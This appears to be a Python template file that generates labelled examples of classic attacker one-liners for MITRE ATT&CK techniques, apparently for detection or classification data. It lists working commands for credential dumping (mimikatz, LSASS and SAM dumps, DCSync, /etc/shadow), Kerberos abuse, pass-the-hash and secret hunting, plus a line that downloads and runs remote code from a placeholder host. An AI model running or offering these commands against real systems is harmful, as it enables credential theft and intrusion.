"""The classic one-line commands of each technique as cheat sheets and plans write them, simple forms first, with near misses."""

from __future__ import annotations

from training.generators.grammar import parse_templates

CLASSIC_LINES = parse_templates(
    r"""
# T1049
ac-netstat cmd +T1049: netstat
ac-netstat-a cmd +T1049: netstat -a
ac-netstat-ano cmd +T1049: netstat -ano
ac-netstat-anb cmd +T1049: netstat -anb
ac-netstat-an-find cmd +T1049: netstat -an | find "ESTABLISHED"
ac-netstat-ano-findstr cmd +T1049: netstat -ano | findstr /i listening
ac-netstat-f cmd +T1049: netstat -f
ac-netstat-anop-tcp cmd +T1049: netstat -anop «tcp¦udp¦TCPv6»
ac-netstat-ano-findstr-n2 cmd +T1049: netstat -ano | findstr :‹port›
ac-netstat-nao cmd +T1049: netstat -nao ‹n›
ac-net-session cmd +T1049: net session
ac-net-use cmd +T1049: net use
ac-net-file cmd +T1049: net file
ac-nbtstat-s cmd +T1049: nbtstat -S
ac-nbtstat-s-n2 cmd +T1049: nbtstat -s
ac-netsh-interface-ipv4 cmd +T1049: netsh interface ipv4 show tcpconnections
ac-netsh-interface-ipv6 cmd +T1049: netsh interface ipv6 show tcpconnections
ac-wmic-netuse-get cmd +T1049: wmic netuse get localname,remotename,connectionstate
ac-wmic-namespace-root cmd +T1049: wmic /namespace:\\root\standardcimv2 path MSFT_NetTCPConnection get LocalPort,RemoteAddress,State
ac-wmic-path-win32 cmd +T1049: wmic path Win32_ServerConnection get ComputerName,ShareName,UserName
ac-wmic-path-win32-n2 cmd +T1049: wmic path Win32_ServerSession get ComputerName,UserName,ActiveTime
ac-openfiles-query-fo cmd +T1049: openfiles /query /fo csv
ac-cscript-nologo-e cmd +T1049: cscript //nologo //e:vbscript ‹dir›\‹name›.vbs "SELECT LocalAddress,RemoteAddress FROM MSFT_NetTCPConnection"
ac-mshta-vbscript-execute cmd +T1049: mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c netstat -ano > C:\Users\Public\‹name›.txt"",0:close")
ac-python-import-psutil cmd +T1049: python -c "import psutil; print(psutil.net_connections())"
ac-python-import-subprocess cmd +T1049: python -c "import subprocess; print(subprocess.check_output(['netstat','-ano']).decode())"
ac-tcpvcon64-accepteula-a cmd +T1049: tcpvcon64.exe -accepteula -a -n
ac-cports-scomma cmd +T1049: cports.exe /scomma ‹file›
ac-wsl-ss-tnp cmd +T1049: wsl ss -tnp
ac-perl-e-print cmd +T1049: perl -e "print `netstat -an`"
ac-for-f-tokens cmd +T1049: for /f "tokens=3,5" %a in ('netstat -ano ^| findstr ESTABLISHED') do @echo %a %b
ac-get-nettcpconnection powershell +T1049: Get-NetTCPConnection
ac-get-nettcpconnection-state powershell +T1049: Get-NetTCPConnection -State «Established¦Listen»
ac-get-nettcpconnection-sort powershell +T1049: Get-NetTCPConnection | Sort-Object LocalPort | Format-Table -AutoSize
ac-get-nettcpconnection-select powershell +T1049: Get-NetTCPConnection | Select-Object LocalAddress,LocalPort,RemoteAddress,RemotePort,State,OwningProcess
ac-get-nettcpconnection-remoteport powershell +T1049: Get-NetTCPConnection -RemotePort ‹port› | ft RemoteAddress,OwningProcess
ac-get-nettcpconnection-select-n2 powershell +T1049: Get-NetTCPConnection | select *,@{n='Process';e={(Get-Process -Id $_.OwningProcess).Name}}
ac-get-netudpendpoint-select powershell +T1049: Get-NetUDPEndpoint | select LocalAddress,LocalPort,OwningProcess
ac-system-net-networkinformation powershell +T1049: [System.Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActiveTcpConnections()
ac-system-net-networkinformation-n2 powershell +T1049: [System.Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActiveTcpListeners()
ac-net-networkinformation-ipglobalproperties powershell +T1049: [Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActiveUdpListeners() | ft Address,Port
ac-get-ciminstance-namespace powershell +T1049: Get-CimInstance -Namespace root/StandardCimv2 -ClassName MSFT_NetTCPConnection
ac-get-wmiobject-namespace powershell +T1049: Get-WmiObject -Namespace root\standardcimv2 -Class MSFT_NetTCPConnection | select RemoteAddress,RemotePort
ac-gwmi-win32-serverconnection powershell +T1049: gwmi Win32_ServerConnection | select UserName,ComputerName,ShareName
ac-get-ciminstance-win32 powershell +T1049: Get-CimInstance Win32_NetworkConnection
ac-get-smbconnection-ft powershell +T1049: Get-SmbConnection | ft ServerName,ShareName,UserName
ac-get-smbsession-select powershell +T1049: Get-SmbSession | select ClientComputerName,ClientUserName
ac-get-smbopenfile-select powershell +T1049: Get-SmbOpenFile | select ClientUserName,Path
ac-get-netsession-computername powershell +T1049: Get-NetSession -ComputerName ‹server›
ac-new-object-comobject powershell +T1049: (New-Object -ComObject WScript.Network).EnumNetworkDrives()
ac-netstat-ano-select powershell +T1049: netstat -ano | Select-String ESTABLISHED | % { ($_ -split '\s+')[3] }
ac-invoke-command-computername powershell +T1049: Invoke-Command -ComputerName ‹server› -ScriptBlock { Get-NetTCPConnection -State Established }
ac-netstat-tunap bash +T1049: netstat -tunap
ac-netstat-ant bash +T1049: netstat -ant
ac-netstat-plnt bash +T1049: netstat -plnt
ac-ss bash +T1049: ss
ac-ss-tulwn bash +T1049: ss -tulwn
ac-ss-tan-state bash +T1049: ss -tan state established
ac-ss-antup-grep bash +T1049: ss -antup | grep ESTAB
ac-lsof-i bash +T1049: lsof -i
ac-lsof-np-itcp bash +T1049: lsof -nP -iTCP -sTCP:LISTEN
ac-lsof-i-p bash +T1049: lsof -i -P -n | grep ESTABLISHED
ac-lsof-i-n2 bash +T1049: lsof -i :‹port›
ac-cat-proc-net bash +T1049: cat /proc/net/tcp
ac-awk-nr-1 bash +T1049: awk 'NR>1{print $2,$3,$4}' /proc/net/tcp
ac-cut-d-f5 bash +T1049: cut -d' ' -f5-6 /proc/net/tcp6
ac-sed-1d-proc bash +T1049: sed 1d /proc/net/udp
ac-grep-v-local bash +T1049: grep -v local_address /proc/net/tcp | awk '{print $3}'
ac-head-50-proc bash +T1049: head -50 /proc/net/unix
ac-fuser-v-n bash +T1049: fuser -v -n tcp ‹port›
ac-conntrack-l bash +T1049: conntrack -L
ac-showmount-a bash +T1049: showmount -a
ac-smbstatus-s bash +T1049: smbstatus -S
ac-python3-import-psutil bash +T1049: python3 -c "import psutil;[print(c) for c in psutil.net_connections('inet')]"
ac-perl-ne-print bash +T1049: perl -ne 'print if / 0A /' /proc/net/tcp
ac-perl-e-print-n2 bash +T1049: perl -e 'print `ss -ant`'
ac-ruby-e-puts bash +T1049: ruby -e 'puts File.read("/proc/net/tcp")'
ac-netstat-an-awk bash +T1049: netstat -an | awk '/tcp/ {print $5}' | sort -u
ac-watch-n-5 bash +T1049: watch -n 5 'ss -tnp'
# T1087.001
ac-net-user cmd +T1087.001: net user
ac-net-users cmd +T1087.001: net users
ac-net-user-administrator cmd +T1087.001: net user administrator
ac-net-user-guest cmd +T1087.001: net user guest
ac-net1-user cmd +T1087.001: net1 user
ac-net-user-n2 cmd +T1087.001: net user ‹user›
ac-wmic-useraccount-get cmd +T1087.001: wmic useraccount get name
ac-wmic-useraccount-get-n2 cmd +T1087.001: wmic useraccount get name,sid,disabled
ac-wmic-useraccount-where cmd +T1087.001: wmic useraccount where "localaccount='true'" get name,lastlogin
ac-wmic-useraccount-list cmd +T1087.001: wmic useraccount list full
ac-wmic-node-useraccount cmd +T1087.001: wmic /node:‹server› useraccount list brief
ac-wmic-path-win32-n3 cmd +T1087.001: wmic path Win32_UserProfile get LocalPath,SID
ac-reg-query-hklm cmd +T1087.001: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList" /s
ac-cmd-net-user cmd +T1087.001: cmd /c net user > ‹file›
ac-net-user-more cmd +T1087.001: net user | more
ac-cscript-nologo-vbs cmd +T1087.001: cscript //nologo ‹dir›\‹name›.vbs "WinNT://." user
ac-mshta-vbscript-execute-n2 cmd +T1087.001: mshta vbscript:Execute("For Each u In GetObject(""WinNT://."") : If u.Class=""User"" Then MsgBox u.Name : Next : close")
ac-python-import-win32net cmd +T1087.001: python -c "import win32net; print(win32net.NetUserEnum(None,0))"
ac-python-import-subprocess-n2 cmd +T1087.001: python -c "import subprocess; print(subprocess.getoutput('net user'))"
ac-perl-mwin32-netadmin cmd +T1087.001: perl -MWin32::NetAdmin -e "Win32::NetAdmin::GetUsers('','',\@u); print @u"
ac-psexec64-accepteula-net cmd +T1087.001: PsExec64.exe -accepteula \\‹server› net user
ac-wsl-cat-etc cmd +T1087.001: wsl cat /etc/passwd
ac-get-localuser powershell +T1087.001: Get-LocalUser
ac-get-localuser-select powershell +T1087.001: Get-LocalUser | Select-Object Name,Enabled,LastLogon
ac-get-localuser-enabled powershell +T1087.001: Get-LocalUser | ? Enabled | ft Name,SID
ac-glu-fl powershell +T1087.001: glu | fl *
ac-get-wmiobject-class powershell +T1087.001: Get-WmiObject -Class Win32_UserAccount
ac-get-wmiobject-win32 powershell +T1087.001: Get-WmiObject Win32_UserAccount -Filter "LocalAccount=True" | select Name,SID
ac-gwmi-win32-useraccount powershell +T1087.001: gwmi win32_useraccount | ft name,disabled
ac-get-ciminstance-classname powershell +T1087.001: Get-CimInstance -ClassName Win32_UserAccount -Filter "LocalAccount='True'"
ac-gcim-win32-useraccount powershell +T1087.001: gcim Win32_UserAccount | select Caption,Disabled
ac-get-ciminstance-win32-n2 powershell +T1087.001: Get-CimInstance Win32_UserProfile | select LocalPath,LastUseTime
ac-adsi-winnt-env powershell +T1087.001: ([ADSI]"WinNT://$env:COMPUTERNAME").Children | ? SchemaClassName -eq 'user' | % Name
ac-adsi-winnt-psbase powershell +T1087.001: ([ADSI]'WinNT://.').PSBase.Children | where {$_.PSBase.SchemaClassName -match 'user'}
ac-adsi-winnt-computer powershell +T1087.001: [ADSI]"WinNT://‹server›,computer" | % { $_.Children } | ? { $_.SchemaClassName -eq 'User' }
ac-add-type-assemblyname powershell +T1087.001: Add-Type -AssemblyName System.DirectoryServices.AccountManagement; $c=[DirectoryServices.AccountManagement.PrincipalContext]::new('Machine'); ([DirectoryServices.AccountManagement.PrincipalSearcher]::new([DirectoryServices.AccountManagement.UserPrincipal]::new($c))).FindAll()
ac-get-itemproperty-hklm powershell +T1087.001: Get-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\ProfileList\*' | select ProfileImagePath
ac-get-netlocaluser powershell +T1087.001: Get-NetLocalUser
ac-invoke-command-get powershell +T1087.001: Invoke-Command ‹server› { Get-LocalUser }
ac-get-wmiobject-query powershell +T1087.001: Get-WmiObject -Query "SELECT Name,SID FROM Win32_UserAccount WHERE LocalAccount=TRUE"
ac-cat-etc-passwd bash +T1087.001: cat /etc/passwd
ac-less-etc-passwd bash +T1087.001: less /etc/passwd
ac-getent-passwd bash +T1087.001: getent passwd
ac-cut-d-f1 bash +T1087.001: cut -d: -f1 /etc/passwd
ac-awk-f-print bash +T1087.001: awk -F: '{print $1}' /etc/passwd
ac-awk-f-3 bash +T1087.001: awk -F: '$3>=1000 {print $1,$6,$7}' /etc/passwd
ac-awk-f-3-n2 bash +T1087.001: awk -F: '($3 == 0) {print $1}' /etc/passwd
ac-sed-s-etc bash +T1087.001: sed 's/:.*//' /etc/passwd
ac-grep-v-nologin bash +T1087.001: grep -v nologin /etc/passwd
ac-grep-e-bin bash +T1087.001: grep -E '/bin/(ba)?sh$' /etc/passwd
ac-grep-x-0 bash +T1087.001: grep 'x:0:' /etc/passwd
ac-getent-passwd-cut bash +T1087.001: getent passwd | cut -d: -f1,3
ac-compgen-u bash +T1087.001: compgen -u
ac-lastlog bash +T1087.001: lastlog
ac-lslogins-u bash +T1087.001: lslogins -u
ac-python3-import-pwd bash +T1087.001: python3 -c "import pwd; print([p.pw_name for p in pwd.getpwall()])"
ac-perl-ne-f bash +T1087.001: perl -ne '@f=split /:/; print "$f[0]\n"' /etc/passwd
ac-perl-e-while bash +T1087.001: perl -e 'while(@p=getpwent){print "$p[0]\n"}'
ac-ruby-retc-e bash +T1087.001: ruby -retc -e 'Etc.passwd{|u| puts u.name}'
ac-tail-n-20 bash +T1087.001: tail -n 20 /etc/passwd
ac-sort-t-k3 bash +T1087.001: sort -t: -k3 -n /etc/passwd
ac-while-ifs-read bash +T1087.001: while IFS=: read -r u x i r; do echo "$u $i"; done < /etc/passwd
# T1003.002
ac-reg-save-hklm cmd +T1003.002: reg save HKLM\SAM sam.save
ac-reg-save-hklm-n2 cmd +T1003.002: reg save HKLM\SAM ‹file›
ac-reg-save-hklm-n3 cmd +T1003.002: reg.exe save hklm\sam ‹dir›\sam.hive /y
ac-reg-save-hkey cmd +T1003.002: reg save HKEY_LOCAL_MACHINE\SAM C:\Windows\Temp\‹name›.tmp
ac-reg-export-hklm cmd +T1003.002: reg export HKLM\SAM ‹file›
ac-reg-save-hklm-n4 cmd +T1003.002: reg save \\‹server›\HKLM\SAM ‹dir›\‹name›
ac-reg-save-hklm-n5 cmd +T1003.002: reg save HKLM\SAM ‹dir›\sam & reg save HKLM\SYSTEM ‹dir›\system
ac-copy-windows-system32 cmd +T1003.002: copy ‹vss›\Windows\System32\config\SAM ‹file›
ac-esentutl-y-vss cmd +T1003.002: esentutl /y /vss C:\Windows\System32\config\SAM /d ‹file›
ac-robocopy-b-windows cmd +T1003.002: robocopy /b C:\Windows\System32\config ‹dir› SAM SYSTEM
ac-type-windows-system32 cmd +T1003.002: type ‹vss›\Windows\System32\config\SAM > ‹file›
ac-mklink-d-copy cmd +T1003.002: mklink /d C:\‹name› ‹vss›\ & copy C:\‹name›\Windows\System32\config\SAM ‹dir›
ac-mimikatz-privilege-debug cmd +T1003.002: mimikatz.exe "privilege::debug" "token::elevate" "lsadump::sam" "exit"
ac-mimikatz-lsadump-sam cmd +T1003.002: mimikatz # lsadump::sam /system:SYSTEM /sam:SAM
ac-pwdump7 cmd +T1003.002: pwdump7.exe > ‹file›
ac-pwdump8-f-system cmd +T1003.002: pwdump8.exe -f ‹dir›\SYSTEM ‹dir›\SAM
ac-fgdump-w cmd +T1003.002: fgdump.exe -c -w
ac-gsecdump-s cmd +T1003.002: gsecdump.exe -s
ac-samdump2-system-sam cmd +T1003.002: samdump2.exe SYSTEM SAM
ac-rawcopy-filenamepath-windows cmd +T1003.002: RawCopy.exe /FileNamePath:C:\Windows\System32\config\SAM /OutputPath:‹dir›
ac-vssown-vbs-create cmd +T1003.002: vssown.vbs /create c & copy ‹vss›\Windows\System32\config\SAM ‹dir›
ac-wmic-process-call cmd +T1003.002: wmic process call create "reg save HKLM\SAM C:\Windows\Temp\‹name›"
ac-psexec64-accepteula-s cmd +T1003.002: PsExec64.exe -accepteula -s reg save HKLM\SAM ‹file›
ac-reg-query-hklm-n2 cmd +T1003.002: reg query HKLM\SAM\SAM\Domains\Account\Users /s
ac-python-secretsdump-py cmd +T1003.002: python secretsdump.py -sam ‹dir›\SAM -system ‹dir›\SYSTEM LOCAL
ac-python-import-shutil cmd +T1003.002: python -c "import shutil; shutil.copy(r'\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›\Windows\System32\config\SAM', r'C:\Users\Public\‹name›')"
ac-python-import-os cmd +T1003.002: python -c "import os; os.system('reg save HKLM\\SAM ‹name›.hiv')"
ac-cscript-nologo-vbs-n2 cmd +T1003.002: cscript //nologo ‹dir›\‹name›.vbs reg save HKLM\SAM C:\Users\Public\‹name›
ac-diskshadow-s-txt cmd +T1003.002: diskshadow /s ‹dir›\‹name›.txt & copy Z:\Windows\System32\config\SAM ‹dir›
ac-reg-save-hklm-n6 powershell +T1003.002: reg save HKLM\SAM $env:TEMP\‹name›
ac-copy-item-windows powershell +T1003.002: Copy-Item '‹vss›\Windows\System32\config\SAM' ‹dir›\‹name›
ac-system-io-file powershell +T1003.002: [System.IO.File]::Copy('‹vss›\Windows\System32\config\SAM','‹dir›\‹name›')
ac-invoke-ninjacopy-path powershell +T1003.002: Invoke-NinjaCopy -Path C:\Windows\System32\config\SAM -LocalDestination ‹dir›\‹name›
ac-invoke-mimikatz-command powershell +T1003.002: Invoke-Mimikatz -Command '"token::elevate" "lsadump::sam"'
ac-invoke-powerdump-out powershell +T1003.002: Invoke-PowerDump | Out-File ‹dir›\‹name›.txt
ac-get-passhashes powershell +T1003.002: Get-PassHashes
ac-gwmi-list-win32 powershell +T1003.002: (gwmi -List Win32_ShadowCopy).Create('C:\','ClientAccessible'); cmd /c copy ‹vss›\Windows\System32\config\SAM ‹dir›
ac-get-childitem-hklm powershell +T1003.002: Get-ChildItem HKLM:\SAM\SAM\Domains\Account\Users
ac-start-process-reg powershell +T1003.002: Start-Process reg.exe -ArgumentList 'save HKLM\SAM ‹dir›\‹name›.hiv' -WindowStyle Hidden
ac-invoke-wmimethod-class powershell +T1003.002: Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'reg save HKLM\SAM C:\Windows\Temp\‹name›' -ComputerName ‹server›
ac-samdump2-system-sam-n2 bash +T1003.002: samdump2 SYSTEM SAM
ac-secretsdump-py-sam bash +T1003.002: secretsdump.py -sam sam.save -system system.save LOCAL
ac-impacket-secretsdump-sam bash +T1003.002: impacket-secretsdump -sam SAM -system SYSTEM LOCAL
ac-impacket-reg-save bash +T1003.002: impacket-reg ‹domain›/‹user›:'‹pass›'@‹ip› save -keyName 'HKLM\SAM' -o '\\‹ip›\share'
ac-nxc-smb-u bash +T1003.002: nxc smb ‹ip› -u ‹user› -p '‹pass›' --sam
ac-crackmapexec-smb-u bash +T1003.002: crackmapexec smb ‹ip› -u Administrator -H ‹hash› --local-auth --sam
ac-pypykatz-registry-sam bash +T1003.002: pypykatz registry --sam SAM SYSTEM
ac-chntpw-l-mnt bash +T1003.002: chntpw -l /mnt/‹name›/Windows/System32/config/SAM
ac-bkhive-system-tmp bash +T1003.002: bkhive SYSTEM /tmp/‹name›; samdump2 SAM /tmp/‹name›
ac-creddump7-pwdump-py bash +T1003.002: creddump7/pwdump.py SYSTEM SAM
ac-cp-mnt-windows bash +T1003.002: cp /mnt/‹name›/Windows/System32/config/SAM /tmp/
# T1003.001
ac-procdump-ma-lsass cmd +T1003.001: procdump -ma lsass.exe lsass.dmp
ac-procdump64-accepteula-ma cmd +T1003.001: procdump64.exe -accepteula -ma lsass.exe ‹dir›\‹name›.dmp
ac-procdump-ma-lsass-n2 cmd +T1003.001: procdump -ma lsass
ac-procdump-accepteula-r cmd +T1003.001: procdump.exe -accepteula -r -ma ‹pid› lsass.dmp
ac-rundll32-comsvcs-dll cmd +T1003.001: rundll32.exe comsvcs.dll, MiniDump ‹pid› lsass.dmp full
ac-rundll32-windows-system32 cmd +T1003.001: rundll32 C:\Windows\System32\comsvcs.dll MiniDump ‹pid› ‹dir›\‹name›.dmp full
ac-rundll32-windows-system32-n2 cmd +T1003.001: rundll32.exe C:\Windows\System32\comsvcs.dll,#24 ‹pid› ‹dir›\‹name›.bin full
ac-mimikatz-sekurlsa-logonpasswords cmd +T1003.001: mimikatz.exe "sekurlsa::logonpasswords" exit
ac-mimikatz-sekurlsa-logonpasswords-n2 cmd +T1003.001: mimikatz # sekurlsa::logonpasswords
ac-mimikatz-privilege-debug-n2 cmd +T1003.001: mimikatz "privilege::debug" "sekurlsa::wdigest"
ac-mimikatz-sekurlsa-minidump cmd +T1003.001: mimikatz.exe "sekurlsa::minidump lsass.dmp" "sekurlsa::logonPasswords full"
ac-mimikatz-privilege-debug-n3 cmd +T1003.001: mimikatz.exe privilege::debug sekurlsa::ekeys exit
ac-mimikatz-sekurlsa-tickets cmd +T1003.001: mimikatz.exe "sekurlsa::tickets /export" exit
ac-sqldumper-0-0x01100 cmd +T1003.001: sqldumper.exe ‹pid› 0 0x01100:40
ac-rdrleakdiag-p-o cmd +T1003.001: rdrleakdiag.exe /p ‹pid› /o ‹dir› /fullmemdmp /wait 1
ac-tttracer-dumpfull-attach cmd +T1003.001: tttracer.exe -dumpFull -attach ‹pid›
ac-createdump-n-lsass cmd +T1003.001: createdump.exe -n lsass.dmp ‹pid› --full
ac-nanodump-x64-write cmd +T1003.001: nanodump.x64.exe --write ‹dir›\‹name›.dmp
ac-wce-w cmd +T1003.001: wce.exe -w
ac-wce-l-o cmd +T1003.001: wce.exe -l -o ‹file›
ac-dumpert cmd +T1003.001: Dumpert.exe
ac-sharpdump cmd +T1003.001: SharpDump.exe ‹pid›
ac-safetykatz cmd +T1003.001: safetykatz.exe
ac-pypykatz-live-lsa cmd +T1003.001: pypykatz.exe live lsa
ac-pypykatz-lsa-minidump cmd +T1003.001: pypykatz.exe lsa minidump lsass.dmp
ac-processhacker-ctype-process cmd +T1003.001: ProcessHacker.exe -c -ctype process -cobject lsass.exe -caction dump
ac-wmic-process-call-n2 cmd +T1003.001: wmic process call create "rundll32 comsvcs.dll MiniDump ‹pid› C:\Windows\Temp\‹name› full"
ac-psexec-s-procdump cmd +T1003.001: PsExec.exe -s procdump.exe -accepteula -ma lsass.exe C:\‹name›.dmp
ac-python-from-pypykatz cmd +T1003.001: python -c "from pypykatz.pypykatz import pypykatz; print(pypykatz.parse_minidump_file('lsass.dmp'))"
ac-reg-add-hklm cmd +T1003.001: reg add HKLM\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f & procdump -ma lsass.exe ‹file›
ac-get-process-lsass powershell +T1003.001: Get-Process lsass | Out-Minidump
ac-out-minidump-process powershell +T1003.001: Out-Minidump -Process (Get-Process lsass) -DumpFilePath ‹dir›
ac-invoke-mimikatz powershell +T1003.001: Invoke-Mimikatz
ac-invoke-mimikatz-dumpcreds powershell +T1003.001: Invoke-Mimikatz -DumpCreds
ac-invoke-mimikatz-command-n2 powershell +T1003.001: Invoke-Mimikatz -Command '"sekurlsa::logonpasswords"'
ac-rundll32-windows-system32-n3 powershell +T1003.001: rundll32 C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id ‹dir›\‹name›.dmp full
ac-procdump64-accepteula-ma-n2 powershell +T1003.001: .\procdump64.exe -accepteula -ma (gps lsass).Id ‹name›.dmp
ac-p-ps-lsass powershell +T1003.001: $p=(ps lsass).Id; rundll32 comsvcs.dll,#24 $p $env:TEMP\‹name›.tmp full
ac-iex-new-object powershell +T1003.001: IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/Invoke-Mimikatz.ps1'); Invoke-Mimikatz
ac-import-module-invoke powershell +T1003.001: Import-Module .\Invoke-SafetyDump.ps1; Invoke-SafetyDump
ac-pypykatz-lsa-minidump-n2 bash +T1003.001: pypykatz lsa minidump lsass.dmp
ac-pypykatz-lsa-minidump-n3 bash +T1003.001: pypykatz lsa minidump /tmp/‹name›.dmp -o /tmp/‹name›.txt
ac-lsassy-u-p bash +T1003.001: lsassy -u ‹user› -p '‹pass›' ‹ip›
ac-nxc-smb-u-n2 bash +T1003.001: nxc smb ‹ip› -u ‹user› -H ‹hash› -M lsassy
ac-crackmapexec-smb-u-n2 bash +T1003.001: crackmapexec smb ‹ip› -u ‹user› -p '‹pass›' -M mimikatz
ac-crackmapexec-smb-u-n3 bash +T1003.001: crackmapexec smb ‹ip› -u ‹user› -p '‹pass›' -M nanodump
# T1003.003
ac-ntdsutil-ac-i cmd +T1003.003: ntdsutil "ac i ntds" "ifm" "create full C:\temp" q q
ac-vssadmin-create-shadow cmd +T1003.003: vssadmin create shadow /for=C: & copy ‹vss›\Windows\NTDS\ntds.dit ‹dir›
ac-esentutl-y-vss-n2 cmd +T1003.003: esentutl /y /vss C:\Windows\NTDS\ntds.dit /d ‹file›
ac-copy-windows-ntds cmd +T1003.003: copy ‹vss›\Windows\NTDS\ntds.dit C:\‹name›\ntds.dit
ac-secretsdump-py-ntds bash +T1003.003: secretsdump.py -ntds ntds.dit -system SYSTEM LOCAL
ac-nxc-smb-u-n3 bash +T1003.003: nxc smb ‹ip› -u ‹user› -p '‹pass›' --ntds
# T1003.004
ac-reg-save-hklm-n7 cmd +T1003.004: reg save HKLM\SECURITY security.save
ac-mimikatz-token-elevate cmd +T1003.004: mimikatz.exe "token::elevate" "lsadump::secrets" exit
ac-reg-query-hklm-n3 cmd +T1003.004: reg query HKLM\SECURITY\Policy\Secrets
# T1003.005
ac-mimikatz-token-elevate-n2 cmd +T1003.005: mimikatz.exe "token::elevate" "lsadump::cache" exit
ac-reg-save-hklm-n8 cmd +T1003.005: reg save HKLM\SECURITY\Cache ‹file›
# T1003.006
ac-mimikatz-lsadump-dcsync cmd +T1003.006: mimikatz.exe "lsadump::dcsync /user:krbtgt" exit
ac-mimikatz-lsadump-dcsync-n2 cmd +T1003.006: mimikatz.exe "lsadump::dcsync /domain:‹fqdn› /all /csv" exit
ac-secretsdump-py-just bash +T1003.006: secretsdump.py -just-dc ‹domain›/‹user›@‹ip›
ac-impacket-secretsdump-just bash +T1003.006: impacket-secretsdump -just-dc-user krbtgt ‹fqdn›/‹user›:'‹pass›'@‹ip›
# T1003.007
ac-gcore-o-tmp bash +T1003.007: gcore -o /tmp/‹name› $(pidof sshd)
ac-cat-proc-maps bash +T1003.007: cat /proc/‹pid›/maps | grep heap; dd if=/proc/‹pid›/mem of=/tmp/‹name› bs=1 skip=94000000 count=1000000
ac-mimipenguin-sh bash +T1003.007: ./mimipenguin.sh
ac-python3-mimipenguin-py bash +T1003.007: python3 mimipenguin.py
ac-strings-proc-mem bash +T1003.007: strings /proc/‹pid›/mem | grep -i pass
# T1003.008
ac-cat-etc-shadow bash +T1003.008: cat /etc/shadow
ac-unshadow-etc-passwd bash +T1003.008: unshadow /etc/passwd /etc/shadow > /tmp/‹name›
ac-cp-etc-shadow bash +T1003.008: cp /etc/shadow /tmp/‹name›
ac-grep-6-etc bash +T1003.008: grep '\$6\$' /etc/shadow
ac-awk-f-2 bash +T1003.008: awk -F: '$2 ~ /^\$/ {print $1,$2}' /etc/shadow
# T1558.003
ac-rubeus-kerberoast cmd +T1558.003: Rubeus.exe kerberoast
ac-setspn-t-q cmd +T1558.003: setspn -T ‹fqdn› -Q */*
ac-invoke-kerberoast powershell +T1558.003: Invoke-Kerberoast
ac-getuserspns-py-dc bash +T1558.003: GetUserSPNs.py ‹fqdn›/‹user›:'‹pass›' -dc-ip ‹ip› -request
# T1558.004
ac-rubeus-asreproast-nowrap cmd +T1558.004: Rubeus.exe asreproast /nowrap
ac-getnpusers-py-usersfile bash +T1558.004: GetNPUsers.py ‹fqdn›/ -usersfile users.txt -no-pass -dc-ip ‹ip›
# T1558.001
ac-ticketer-py-nthash bash +T1558.001: ticketer.py -nthash ‹hash› -domain-sid S-1-5-21-‹pid›1-‹pid›2-‹pid›3 -domain ‹fqdn› Administrator
# T1550.002
ac-mimikatz-sekurlsa-pth cmd +T1550.002: mimikatz.exe "sekurlsa::pth /user:Administrator /domain:‹domain› /ntlm:‹hash›"
ac-psexec-py-hashes bash +T1550.002: psexec.py -hashes :‹hash› Administrator@‹ip›
ac-evil-winrm-i bash +T1550.002: evil-winrm -i ‹ip› -u Administrator -H ‹hash›
ac-pth-winexe-u bash +T1550.002: pth-winexe -U ‹domain›/‹user›%aad3b435b51404eeaad3b435b51404ee:‹hash› //‹ip› cmd
# T1550.003
ac-rubeus-ptt-ticket cmd +T1550.003: Rubeus.exe ptt /ticket:‹name›.kirbi
ac-mimikatz-kerberos-ptt cmd +T1550.003: mimikatz.exe "kerberos::ptt ‹name›.kirbi" exit
# T1552.001
ac-findstr-si-password cmd +T1552.001: findstr /si password *.txt *.xml *.ini
ac-findstr-spin-password cmd +T1552.001: findstr /spin "password" *.*
ac-dir-s-b cmd +T1552.001: dir /s /b *pass*.txt *cred*.txt
ac-type-windows-panther cmd +T1552.001: type C:\Windows\Panther\unattend.xml
ac-get-childitem-recurse powershell +T1552.001: Get-ChildItem C:\ -Recurse -Include *.txt,*.xml,*.config | Select-String -Pattern password
ac-ls-r-include powershell +T1552.001: ls -R -Include *.ps1 | sls 'ConvertTo-SecureString'
ac-grep-ri-password bash +T1552.001: grep -ri password /etc /home /var/www 2>/dev/null
ac-grep-rn-aws bash +T1552.001: grep -rn "aws_secret_access_key" / 2>/dev/null
ac-find-name-wp bash +T1552.001: find / -name "wp-config.php" -exec grep DB_PASSWORD {} \; 2>/dev/null
ac-cat-aws-credentials bash +T1552.001: cat ~/.aws/credentials
ac-cat-git-credentials bash +T1552.001: cat ~/.git-credentials ~/.netrc
# T1552.002
ac-reg-query-hklm-n4 cmd +T1552.002: reg query HKLM /f password /t REG_SZ /s
ac-reg-query-hkcu cmd +T1552.002: reg query HKCU /f password /t REG_SZ /s
ac-reg-query-hkcu-n2 cmd +T1552.002: reg query "HKCU\Software\SimonTatham\PuTTY\Sessions" /s
ac-reg-query-hklm-n5 cmd +T1552.002: reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v DefaultPassword
# T1552.003
ac-cat-bash-history bash +T1552.003: cat ~/.bash_history | grep -i pass
ac-grep-ie-pass bash +T1552.003: grep -iE 'pass|sshpass|mysql -p' /home/*/.bash_history
ac-get-content-get powershell +T1552.003: Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String password
# T1552.004
ac-dir-s-b-n2 cmd +T1552.004: dir /s /b C:\Users\*.pfx C:\Users\*.pem C:\Users\*id_rsa
ac-find-name-id bash +T1552.004: find / -name id_rsa 2>/dev/null
ac-cat-home-ssh bash +T1552.004: cat /home/*/.ssh/id_rsa
ac-find-type-f bash +T1552.004: find / -type f \( -name "*.pem" -o -name "*.key" -o -name "*.ppk" \) 2>/dev/null
ac-grep-rl-begin bash +T1552.004: grep -rl "BEGIN OPENSSH PRIVATE KEY" /home /root 2>/dev/null
# T1552.005
ac-curl-http-169 bash +T1552.005: curl http://169.254.169.254/latest/meta-data/iam/security-credentials/
